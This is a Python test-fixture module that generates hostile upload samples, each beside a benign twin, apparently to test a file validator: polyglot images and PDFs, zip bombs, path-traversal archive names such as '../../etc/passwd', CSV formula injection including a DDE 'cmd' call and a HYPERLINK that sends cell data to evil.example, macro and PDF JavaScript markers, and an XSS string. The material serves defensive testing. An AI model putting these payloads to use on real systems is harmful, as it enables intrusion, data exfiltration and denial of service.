"""A corpus of hostile files, made here: each beside an honest twin that differs in nothing but what makes it hostile.

Nothing in here does harm: what would run in an attacker's file says only that it would.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from tests.support.sound_files import (
    SOUND,
    animation,
    archive,
    compound,
    excel97,
    office,
    pdf,
    picture,
    record,
    word97,
)

SCRIPT = b"<script>alert('it would run')</script>"
#: The test virus of the trade, in two halves, so that no scanner takes this very file for one.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One hostile file.

    Arguments:
        what: what makes it hostile, in words.
        name: of the file.
        make: makes its bytes; some are large.
        why: the word of the refusal; empty where it is taken, with a note.
        note: what the note says, where it is taken.
        twin: makes the honest file beside it, which is taken without a note; by default the sound one of that name.
    """

    what: str
    name: str
    make: Callable[[], bytes]
    why: str = ""
    note: str = ""
    twin: Callable[[], bytes] | None = None

    @property
    def honest(self) -> bytes:
        return SOUND[self.name] if self.twin is None else self.twin()


def _png(width: int, height: int, rows: bytes | None = None) -> bytes:
    """A grey PNG that says it is so large, whatever its pixels are."""
    packed = zlib.compress(bytes(height * (width // 8 + 2)) if rows is None else rows)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(kind, data)
        for kind, data in (
            (b"IHDR", struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)),
            (b"IDAT", packed),
            (b"IEND", b""),
        )
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def _png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return picture("PNG", pnginfo=info)


def _png_with_packed_text(size: int) -> bytes:
    whole = picture("PNG")
    text = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * size))
    return whole[:33] + text + whole[33:]


def _gif_as_script(start: bytes) -> bytes:
    """`GIF89a/*…` or `GIF89a=…`: the width spells the beginning of a line of JavaScript."""
    (width,) = struct.unpack("<H", start)
    file = io.BytesIO()
    Image.new("P", (width, 1)).save(file, "GIF")
    return file.getvalue()


def _gif_with_comment(text: bytes) -> bytes:
    return picture("GIF", comment=text)


def _jpeg_with_comment(text: bytes) -> bytes:
    return picture("JPEG", comment=text)


def _entries(*names: str, data: bytes = b"x") -> bytes:
    """An archive whose entries have exactly these names."""
    plain = [f"{number:03}".ljust(len(name.encode()), "_") for number, name in enumerate(names)]
    made = archive(dict.fromkeys(plain, data), packing=zipfile.ZIP_STORED)
    for before, name in zip(plain, names, strict=True):
        made = made.replace(before.encode(), name.encode())
    return made


def _with_mode(mode: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        info = zipfile.ZipInfo("pointer")
        info.create_system, info.external_attr = 3, mode << 16
        made.writestr(info, "../../etc/passwd")
    return file.getvalue()


def _encrypted() -> bytes:
    """An archive that says that its entry is encrypted."""
    made = bytearray(archive({"secret.txt": b"x" * 40}, packing=zipfile.ZIP_STORED))
    for start, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        made[made.index(start) + flags] |= 1
    return bytes(made)


def _overlapping(count: int = 26) -> bytes:
    """Many entries that share the bytes of one (a bomb without nesting)."""
    one = archive({"a": b"\0" * 1_000_000})
    directory_at = one.index(b"PK\x01\x02")
    body, directory, end = one[:directory_at], one[directory_at : one.index(b"PK\x05\x06")], one[-22:]
    names = [directory[:46] + f"{number:c}".encode("latin-1")[:1] for number in range(65, 65 + count)]
    more = b"".join(names)
    return body + more + struct.pack("<4s4H2LH", end[:4], 0, 0, count, count, len(more), directory_at, 0)


def _lying_about_size() -> bytes:
    """An archive whose entry says that it is small, and unpacks to much more."""
    made = bytearray(archive({"a.txt": b"\0" * 4_000_000}))
    for start, size in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = made.index(start) + size
        made[at : at + 4] = struct.pack("<L", 1000)
    return bytes(made)


def _nested(depth: int) -> bytes:
    made = archive({"a.txt": b"deep down"})
    for number in range(depth - 1):
        made = archive({f"{number}.zip": made})
    return made


def _nested_bomb() -> bytes:
    inner = archive({"zeros": b"\0" * 12_000_000})
    return archive({f"{number}.zip": inner for number in range(2)}, packing=zipfile.ZIP_STORED)


def _many_entries(count: int) -> bytes:
    return archive({f"{number}": b"" for number in range(count)}, packing=zipfile.ZIP_STORED)


def _pdf_with_packed(names: bytes) -> bytes:
    return pdf(packed=b"1 0 << " + names + b" >>")


def _zip_with_pdf_end() -> bytes:
    """A document whose end is an archive too: the comment of the archive is the end of the document."""
    whole = pdf()
    inner = archive({"run.bat": b"echo it would run"})
    at = whole.rindex(b"startxref")
    tail = whole[at:]
    moved = bytearray(whole[:at] + inner)
    end = moved.rindex(b"PK\x05\x06")
    offset = struct.unpack("<L", moved[end + 16 : end + 20])[0] + at
    moved[end + 16 : end + 20] = struct.pack("<L", offset)
    moved[end + 20 : end + 22] = struct.pack("<H", len(tail))
    return bytes(moved) + tail


PNG, JPG, GIF, WEBP = (SOUND[name] for name in ("photo.png", "photo.jpg", "drawing.gif", "photo.webp"))
PDF = SOUND["report.pdf"]
ARCHIVE = SOUND["files.zip"]
RELATION = b'<R><Relationship Type="x/%s" Target="https://evil.example/t.dotm" TargetMode="External"/></R>'

HOSTILE: tuple[Hostile, ...] = (
    # -- another kind than the name says
    Hostile("a page called a picture", "photo.png", lambda: b"<!DOCTYPE html>" + SCRIPT, "type"),
    Hostile("an SVG called a picture", "photo.png", lambda: b"<svg onload=alert(1)/>", "type"),
    Hostile("a program called a document", "report.pdf", lambda: b"MZ" + bytes(200), "type"),
    Hostile("a program called text", "notes.txt", lambda: b"\x7fELF" + bytes(200), "type"),
    Hostile("a script called text", "notes.txt", lambda: b"#!/bin/sh\necho it would run\n", "type"),
    Hostile("a page called text", "notes.txt", lambda: b"\xef\xbb\xbf \n<HTML>" + SCRIPT, "type"),
    Hostile("a page called a table", "table.csv", lambda: b"<?xml version='1.0'?><svg/>", "type"),
    Hostile("a JPEG called PNG", "photo.png", lambda: JPG, "type"),
    Hostile("an archive called a document", "letter.docx", lambda: ARCHIVE, "type"),
    Hostile("a workbook called a letter", "letter.docx", lambda: office(".xlsx"), "type"),
    Hostile("an old workbook called a letter", "old.doc", lambda: SOUND["old.xls"], "type"),
    Hostile("an old letter called a new one", "letter.docx", lambda: SOUND["old.doc"], "type"),
    Hostile("bytes called text", "notes.txt", lambda: b"text\0and more", "type"),
    Hostile("text in no coding", "notes.txt", lambda: b"caf\xe9\n", "type"),
    # -- two in one
    Hostile("a GIF that is a script", "drawing.gif", lambda: _gif_as_script(b"/*"), "polyglot"),
    Hostile("a GIF that assigns", "drawing.gif", lambda: _gif_as_script(b"=1"), "polyglot"),
    Hostile(
        "a GIF with a page in it",
        "drawing.gif",
        lambda: _gif_with_comment(SCRIPT),
        "polyglot",
        twin=lambda: _gif_with_comment(b"made by hand"),
    ),
    Hostile("a GIF with a page behind it", "drawing.gif", lambda: GIF + SCRIPT, "polyglot"),
    Hostile(
        "a JPEG with a page in it",
        "photo.jpg",
        lambda: _jpeg_with_comment(b"<html>" + SCRIPT),
        "polyglot",
        twin=lambda: _jpeg_with_comment(b"made by hand"),
    ),
    Hostile(
        "a JPEG that is a script", "photo.jpg", lambda: b"\xff\xd8\xff\xe0/*" + bytes(0x2F2A - 2) + JPG[2:], "polyglot"
    ),
    Hostile(
        "a PNG with a page in it",
        "photo.png",
        lambda: _png_with_text(SCRIPT.decode()),
        "polyglot",
        twin=lambda: _png_with_text("made by hand"),
    ),
    Hostile("a PNG with an archive behind it", "photo.png", lambda: PNG + ARCHIVE, "polyglot"),
    Hostile("a JPEG with an archive behind it", "photo.jpg", lambda: JPG + ARCHIVE, "polyglot"),
    Hostile(
        "a JPEG with something behind it", "photo.jpg", lambda: JPG + b"something", "polyglot", twin=lambda: JPG + JPG
    ),
    Hostile("a WebP with an archive behind it", "photo.webp", lambda: WEBP + ARCHIVE, "polyglot"),
    Hostile("a PDF with an archive behind it", "report.pdf", lambda: PDF + ARCHIVE, "polyglot"),
    Hostile("a PDF that ends as an archive", "report.pdf", _zip_with_pdf_end, "polyglot"),
    Hostile(
        "a PDF that begins as a page",
        "report.pdf",
        lambda: PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7\n<html>" + SCRIPT),
        "polyglot",
    ),
    Hostile(
        "a picture that is a PDF",
        "photo.png",
        lambda: _png_with_text("%PDF-1.7"),
        "polyglot",
        twin=lambda: _png_with_text("no PDF"),
    ),
    Hostile("an archive behind a program", "files.zip", lambda: b"PK\x03\x04" + bytes(500) + ARCHIVE, "polyglot"),
    Hostile("an archive before a page", "files.zip", lambda: ARCHIVE + SCRIPT, "polyglot"),
    Hostile("an old document that is an archive", "old.doc", lambda: SOUND["old.doc"] + ARCHIVE, "polyglot"),
    # -- bombs
    Hostile(
        "a bomb",
        "files.zip",
        lambda: archive({"a.txt": b"\0" * 12_000_000}),
        "bomb",
        twin=lambda: archive({"a.txt": b"\0" * 3_000_000}),
    ),
    Hostile("a bomb that lies", "files.zip", _lying_about_size, "broken"),
    Hostile("a bomb of shared bytes", "files.zip", _overlapping, "bomb", twin=lambda: archive({"a": bytes(1_000_000)})),
    Hostile("a bomb in archives", "files.zip", _nested_bomb, "bomb", twin=lambda: archive({"inner.zip": ARCHIVE})),
    Hostile("archives too deep", "files.zip", lambda: _nested(5), "bomb", twin=lambda: _nested(3)),
    Hostile("too many entries", "files.zip", lambda: _many_entries(10_001), "bomb", twin=lambda: _many_entries(200)),
    Hostile(
        "a document with a bomb", "letter.docx", lambda: office(".docx", {"word/x.bin": b"\0" * 12_000_000}), "bomb"
    ),
    Hostile(
        "a document with entities",
        "table.xlsx",
        lambda: office(".xlsx", {"xl/s.xml": b'<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'}),
        "bomb",
        twin=lambda: office(".xlsx", {"xl/s.xml": b"<a>b</a>"}),
    ),
    Hostile(
        "a PDF with a bomb",
        "report.pdf",
        lambda: _pdf_with_packed(b" " * 12_000_000),
        "bomb",
        twin=lambda: _pdf_with_packed(b"/A 1"),
    ),
    Hostile(
        "a picture of huge dimensions",
        "photo.png",
        lambda: _png(60_000, 60_000, b"\0"),
        "pixels",
        twin=lambda: _png(600, 600),
    ),
    Hostile("a long and narrow picture", "photo.png", lambda: _png(100_000, 2), "pixels", twin=lambda: _png(1000, 2)),
    Hostile(
        "a picture with a bomb of text",
        "photo.png",
        lambda: _png_with_packed_text(3_000_000),
        "broken",
        twin=lambda: _png_with_packed_text(2000),
    ),
    # -- broken
    Hostile("half a PNG", "photo.png", lambda: PNG[: len(PNG) // 2], "broken"),
    Hostile("half a JPEG", "photo.jpg", lambda: JPG[: len(JPG) // 2], "broken"),
    Hostile("half a GIF", "drawing.gif", lambda: GIF[: len(GIF) // 2], "broken"),
    Hostile("half a WebP", "photo.webp", lambda: WEBP[: len(WEBP) // 2], "broken"),
    Hostile("half a PDF", "report.pdf", lambda: PDF[: len(PDF) // 2], "broken"),
    Hostile("half an archive", "files.zip", lambda: ARCHIVE[: len(ARCHIVE) // 2], "broken"),
    Hostile("half a document", "letter.docx", lambda: office(".docx")[:200], "broken"),
    Hostile("half an old document", "old.doc", lambda: SOUND["old.doc"][:700], "broken"),
    Hostile(
        "an archive with a wrong sum",
        "files.zip",
        lambda: archive({"a.txt": b"hello hello"}, packing=zipfile.ZIP_STORED).replace(b"hello hello", b"hello hullo"),
        "broken",
        twin=lambda: archive({"a.txt": b"hello hello"}, packing=zipfile.ZIP_STORED),
    ),
    # -- names in archives
    Hostile(
        "a path that leads out",
        "files.zip",
        lambda: _entries("../../etc/cron.d/x"),
        "names",
        twin=lambda: _entries("etc/cron.d/x"),
    ),
    Hostile(
        "a path from the root",
        "files.zip",
        lambda: _entries("/etc/passwd"),
        "names",
        twin=lambda: _entries("etc/passwd"),
    ),
    Hostile(
        "a path of Windows", "files.zip", lambda: _entries("..\\..\\x.txt"), "names", twin=lambda: _entries("a/x.txt")
    ),
    Hostile("a drive", "files.zip", lambda: _entries("C:/x.txt"), "names", twin=lambda: _entries("C/x.txt")),
    Hostile(
        "a name twice",
        "files.zip",
        lambda: _entries("a.txt", "A.TXT"),
        "names",
        twin=lambda: _entries("a.txt", "b.txt"),
    ),
    Hostile(
        "a name with a line break", "files.zip", lambda: _entries("a\nb.txt"), "names", twin=lambda: _entries("a b.txt")
    ),
    Hostile("a link", "files.zip", lambda: _with_mode(0o120777), "names", twin=lambda: _with_mode(0o100644)),
    Hostile("a device", "files.zip", lambda: _with_mode(0o060644), "names", twin=lambda: _with_mode(0o100644)),
    # -- formulas
    Hostile("a table that starts a program", "table.csv", lambda: b"a,b\n1,\"=cmd|' /C calc'!A0\"\n", "formula"),
    Hostile(
        "a table that asks a server", "table.csv", lambda: b'a\n"=HYPERLINK(""http://evil.example/""&A1)"\n', "formula"
    ),
    Hostile("a table that computes", "table.csv", lambda: b"a,b\n=1+2,@SUM(A1)\n", note="formulas"),
    # -- what people must be told
    Hostile("macros", "letter.docx", lambda: office(".docx", {"word/vbaProject.bin": b"x"}), note="macros"),
    Hostile(
        "a document for macros",
        "letter.docx",
        lambda: office(".docx", types=b'<x t="macroEnabled.main+xml"/>'),
        note="macros",
    ),
    Hostile(
        "a macro sheet", "table.xlsx", lambda: office(".xlsx", {"xl/macrosheets/s.xml": b"<a/>"}), note="macro sheet"
    ),
    Hostile("active controls", "slides.pptx", lambda: office(".pptx", {"ppt/activeX/a.bin": b"x"}), note="ActiveX"),
    Hostile(
        "embedded objects", "letter.docx", lambda: office(".docx", {"word/embeddings/o.bin": b"x"}), note="embedded"
    ),
    Hostile(
        "a template from elsewhere",
        "letter.docx",
        lambda: office(".docx", {"word/_rels/document.xml.rels": RELATION % b"attachedTemplate"}),
        note="another place",
        twin=lambda: office(".docx", {"word/_rels/document.xml.rels": RELATION % b"hyperlink"}),
    ),
    Hostile(
        "a field that asks a program",
        "letter.docx",
        lambda: office(".docx", main=b"<i>DDEAUTO c:\\x</i>"),
        note="DDE",
        twin=lambda: office(".docx", main=b"<i>PADDED</i>"),
    ),
    Hostile(
        "a document under a password",
        "letter.docx",
        lambda: compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
        note="encrypted",
    ),
    Hostile(
        "old macros",
        "old.doc",
        lambda: compound({"WordDocument": word97(), "Macros/": b"", "VBA/": b""}),
        note="macros",
    ),
    Hostile(
        "old objects", "old.doc", lambda: compound({"WordDocument": word97(), "ObjectPool/": b""}), note="embedded"
    ),
    Hostile(
        "an old document under a password",
        "old.doc",
        lambda: compound({"WordDocument": word97(0x0100)}),
        note="encrypted",
    ),
    Hostile(
        "an old workbook under a password",
        "old.xls",
        lambda: compound({"Workbook": excel97(record(0x2F, b"x"))}),
        note="encrypted",
    ),
    Hostile(
        "an old macro sheet",
        "old.xls",
        lambda: compound({"Workbook": excel97(record(0x85, bytes(5) + b"\x01" + b"name"))}),
        note="macro sheet",
        twin=lambda: compound({"Workbook": excel97(record(0x85, bytes(6) + b"name"))}),
    ),
    Hostile("an encrypted archive", "files.zip", _encrypted, note="encrypted"),
    Hostile("a program in an archive", "files.zip", lambda: archive({"setup.exe": b"MZ"}), note="setup.exe"),
    Hostile(
        "a program without a name",
        "files.zip",
        lambda: archive({"readme": b"MZ\x90" + bytes(99)}),
        note="program",
        twin=lambda: archive({"readme": b"read me"}),
    ),
    Hostile(
        "macros in an archive",
        "files.zip",
        lambda: archive({"letter.docx": office(".docx", {"word/vbaProject.bin": b"x"})}),
        note="macros",
        twin=lambda: archive({"letter.docx": office(".docx")}),
    ),
    Hostile(
        "an archive nobody can open",
        "files.zip",
        lambda: archive({"a.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40)}),
        note="further archives",
    ),
    Hostile(
        "JavaScript in a PDF",
        "report.pdf",
        lambda: pdf(b"9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n"),
        note="JavaScript",
        twin=lambda: pdf(b"9 0 obj\n<< /Title (JavaScript) >>\nendobj\n"),
    ),
    Hostile(
        "hidden JavaScript in a PDF",
        "report.pdf",
        lambda: pdf(b"9 0 obj\n<< /S /J#61va#53cript >>\nendobj\n"),
        note="JavaScript",
        twin=lambda: pdf(b"9 0 obj\n<< /S /A#20name >>\nendobj\n"),
    ),
    Hostile(
        "packed JavaScript in a PDF",
        "report.pdf",
        lambda: _pdf_with_packed(b"/S /JavaScript"),
        note="JavaScript",
        twin=lambda: _pdf_with_packed(b"/S /Nothing"),
    ),
    Hostile(
        "a command in a PDF",
        "report.pdf",
        lambda: pdf(b"9 0 obj\n<< /S /Launch /F (x) >>\nendobj\n"),
        note="another program",
    ),
    Hostile(
        "files in a PDF", "report.pdf", lambda: pdf(b"9 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"), note="embedded"
    ),
    Hostile("a form that runs", "report.pdf", lambda: pdf(b"9 0 obj\n<< /XFA 8 0 R >>\nendobj\n"), note="XFA"),
    Hostile(
        "a PDF that acts",
        "report.pdf",
        lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (http://x) >>"),
        note="when it is opened",
        twin=lambda: pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    ),
    Hostile(
        "a PDF under a password",
        "report.pdf",
        lambda: pdf(b"9 0 obj\n<< /Encrypt 8 0 R >>\nendobj\n"),
        note="encrypted",
    ),
)

__all__ = ["EICAR", "HOSTILE", "SCRIPT", "Hostile", "animation"]
